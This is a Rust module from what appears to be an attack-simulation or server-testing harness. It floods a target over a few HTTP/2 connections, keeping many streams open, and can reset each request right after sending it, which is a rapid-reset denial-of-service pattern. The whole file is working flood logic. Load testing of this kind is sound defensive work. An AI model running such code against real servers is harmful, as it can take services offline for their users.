//! Many requests at once on a few HTTP/2 connections.

use std::thread;
use std::time::Duration;

use super::attacker::Field;
use super::http2::Http2;
use super::target::Message;

/// The pause of the attacker between turns.
const REST: Duration = Duration::from_millis(2);
/// The maximum number of requests that one connection starts in a turn.
const BEGUN: usize = 50;

/// The behavior of all connections.
pub(super) struct Plan<'a> {
    pub(super) connections: usize,
    /// The number of streams that each connection keeps open, or fewer if the server allows fewer.
    pub(super) streams: usize,
    /// Whether the server can send only headers.
    pub(super) closed: bool,
    /// The request with this number.
    pub(super) request: &'a dyn Fn(usize) -> Message,
    /// Whether each request is reset as soon as it is sent.
    pub(super) reset: bool,
}

/// Keeps the streams open until the attack is over. Streams that end are opened again.
pub(super) fn run(field: &Field, plan: &Plan<'_>) {
    let mut connections: Vec<Http2<'_>> = Vec::new();
    let mut number = 0;
    while !field.over() {
        if connections.len() < plan.connections
            && let Ok(connection) = Http2::open(field, plan.closed)
        {
            connections.push(connection);
        }
        for connection in &mut connections {
            let (open, allowed) = connection.streams();
            let missing = plan.streams.min(allowed).saturating_sub(open);
            for _ in 0..missing.min(BEGUN) {
                let message = (plan.request)(number);
                number += 1;
                let id = connection.request(&message);
                if plan.reset {
                    // The request must be sent before it is reset.
                    connection.pump();
                    connection.reset(id);
                }
            }
            connection.pump();
        }
        connections.retain(|connection| !connection.ended());
        thread::sleep(REST);
    }
}
